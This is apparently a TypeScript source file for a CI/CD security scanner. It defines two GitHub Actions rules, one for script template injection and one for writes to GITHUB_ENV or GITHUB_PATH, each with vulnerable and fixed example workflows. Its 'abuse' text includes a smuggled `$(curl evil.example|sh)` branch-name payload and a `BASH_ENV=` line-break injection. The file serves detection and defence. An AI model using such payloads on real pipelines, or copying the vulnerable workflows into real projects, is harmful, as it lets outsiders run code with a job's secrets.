/** Text of outsiders that becomes code: pasted into scripts, or written where the next step reads its settings. */
import type { Severity } from "#model/severity.ts";
import type { Hit } from "../../cicd-rule.ts";
import { expressionsToEnvironment, type PastedExpression } from "../../edits/github-edits.ts";
import { findExpressions } from "../find-expressions.ts";
import type { GithubRule } from "../github-rule.ts";
import type { Origin } from "../origins.ts";
import { placeIn } from "../place-in.ts";
import { type Script, scriptsOf, shellOf } from "../scripts.ts";
import { privilegedEvents } from "../triggers.ts";
import { flowsOf } from "../value-flow.ts";
import { findVariableWrites } from "../variable-writes.ts";
import { type GithubFile, type Step, stepsOf } from "../workflow.ts";

const severities: Readonly<Record<Exclude<Origin, "nobody">, Severity>> = {
  attacker: "high",
  contributor: "medium",
  unsure: "low",
};

const who: Readonly<Record<Exclude<Origin, "nobody">, string>> = {
  attacker: "anybody who opens an issue or a pull request writes it",
  contributor: "whoever starts or calls this decides it",
  unsure: "nothing in this file says what it may hold",
};

export const templateInjection: GithubRule = {
  id: "cicd/github-template-injection",
  aliases: [
    ...["gha-template-injection", "zizmor:template-injection", "poutine:injection"],
    ...["scorecard:dangerous-workflow", "pipeline-check:GHA-003"],
  ],
  title: "An expression is pasted into a script",
  severity: "high",
  risks: ["CICD-SEC-4"],
  why: "GitHub replaces `${{ }}` before the shell sees the script, so that whoever decides the value decides what runs, with the secrets and the token of the job.",
  abuse:
    "An outsider names a branch or titles an issue `$(curl evil.example|sh)`; the next run of the workflow executes it.",
  fix: 'Give the value to the step under `env:` and use it as a quoted variable of the shell: `"$TITLE"`. In actions/github-script read it from the environment or from `context`.',
  links: [
    "https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks",
  ],
  check: (file) => stepsOf(file).flatMap((step) => scriptsOf(step).flatMap((script) => injectionsIn(file, script))),
  examples: {
    bad: [
      'on: issues\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "${{ github.event.issue.title }}"\n',
      "on: pull_request_review_comment\njobs:\n  a:\n    steps:\n      - run: ./check ${{ github.event.comment.path }}\n",
      "on: push\njobs:\n  a:\n    steps:\n      - uses: actions/github-script@v7\n        with:\n          script: return '${{ github.event.head_commit.message }}'\n",
      "on: pull_request\njobs:\n  a:\n    env:\n      REF: ${{ github.head_ref }}\n    steps:\n      - run: git log ${{ env.REF }}\n",
      "on:\n  workflow_dispatch:\n    inputs:\n      to: {}\n  workflow_call:\n    inputs:\n      to:\n        type: boolean\njobs:\n  a:\n    steps:\n      - run: ./release ${{ inputs.to }}\n",
      "name: a\ninputs:\n  dry:\n    type: boolean\nruns:\n  using: composite\n  steps:\n    - run: ./release ${{ inputs.dry }}\n      shell: bash\n",
      "name: a\ninputs:\n  name:\n    required: true\nruns:\n  using: composite\n  steps:\n    - run: hello ${{ inputs.name }}\n      shell: bash\n",
    ],
    good: [
      'on: issues\njobs:\n  a:\n    steps:\n      - run: echo "$TITLE"\n        env:\n          TITLE: ${{ github.event.issue.title }}\n',
      "on: issues\njobs:\n  a:\n    strategy:\n      matrix:\n        os: [linux, mac]\n    steps:\n      - run: ./test ${{ matrix.os }} ${{ github.event.issue.number }} ${{ github.event.issue.title == 'x' && 'a' || 'b' }}\n",
      "on:\n  workflow_dispatch:\n    inputs:\n      dry:\n        type: boolean\njobs:\n  a:\n    steps:\n      - run: ./release --dry=${{ inputs.dry }}\n",
    ],
  },
};

/** A name that stands several times in one script is one problem: one variable cures it. */
function injectionsIn(file: GithubFile, { step, node, input }: Script): readonly Hit[] {
  const hits = new Map<string, Hit>();
  const pasted: PastedExpression[] = [];
  const edit = () => (input === "run" ? expressionsToEnvironment(step, node, pasted) : undefined);
  for (const found of findExpressions(node)) {
    const flows = found.expression ? flowsOf(found.expression, { file, job: step.job, step }) : [];
    for (const { part, origin, name } of flows) {
      if (origin === "nobody") continue;
      if (pasted.at(-1)?.start !== found.start) pasted.push({ start: found.start, end: found.end, name });
      if (hits.has(name)) continue;
      const why = `it becomes part of the ${input === "run" ? "script" : "code"}, and ${who[origin]}`;
      const address = `${step.address}/${input}: ${name}`;
      hits.set(name, { at: found.placeOf(part), address, why, severity: severities[origin], edit });
    }
  }
  return [...hits.values()];
}

export const githubEnvironment: GithubRule = {
  id: "cicd/github-environment-file-injection",
  aliases: ["gha-github-env", "zizmor:github-env"],
  title: "Changing text is written to GITHUB_ENV or GITHUB_PATH",
  severity: "high",
  risks: ["CICD-SEC-4"],
  why: "What these files name is set for every later step: a line break in the text adds variables such as LD_PRELOAD or NODE_OPTIONS, and with them code.",
  abuse:
    "An outsider puts a line break and `BASH_ENV=...` into a title or a file that the step reads; the next step runs it with the job's token.",
  fix: "Write step outputs (GITHUB_OUTPUT) instead, or only fixed text; where it must be a variable, check the value against a short list first.",
  links: [
    "https://docs.github.com/en/actions/reference/workflows-and-actions/workflow-commands#setting-an-environment-variable",
  ],
  check: (file) => (mayBeAbused(file) ? stepsOf(file).flatMap(environmentWrites) : []),
  examples: {
    bad: [
      'on: pull_request_target\njobs:\n  a:\n    steps:\n      - run: echo "$TITLE" >> $GITHUB_PATH\n        env:\n          TITLE: ${{ github.event.pull_request.title }}\n',
      'runs:\n  using: composite\n  steps:\n    - run: echo "x=$(cat version)" | tee -a "$GITHUB_ENV"\n      shell: bash\n',
      'runs:\n  using: composite\n  steps:\n    - run: echo "x=$env:BAR" >> $env:GITHUB_ENV\n      shell: pwsh\n',
      "on: workflow_run\njobs:\n  a:\n    steps:\n      - run: cat pr.txt >> $GITHUB_ENV\n",
    ],
    good: [
      'on: pull_request_target\njobs:\n  a:\n    steps:\n      - run: echo "x=1" >> $GITHUB_ENV\n',
      'on: pull_request_target\njobs:\n  a:\n    steps:\n      - run: echo "x=$TITLE" >> $GITHUB_OUTPUT\n',
      'on: push\njobs:\n  a:\n    steps:\n      - run: echo "x=$GITHUB_SHA" >> $GITHUB_ENV\n',
    ],
  },
};

/** An action does not know who calls it. */
function mayBeAbused(file: GithubFile): boolean {
  return file.is === "action" || privilegedEvents(file).length > 0;
}

function environmentWrites(step: Step): readonly Hit[] {
  const { run } = step;
  if (!run) return [];
  return findVariableWrites(String(run.value), shellOf(step)).map(({ start, end, file }, index) => ({
    at: placeIn(run, start, end),
    address: `${step.address}/run: ${file}${index === 0 ? "" : ` (${index + 1})`}`,
    why: `what is written to ${file} is not fixed in this file`,
  }));
}
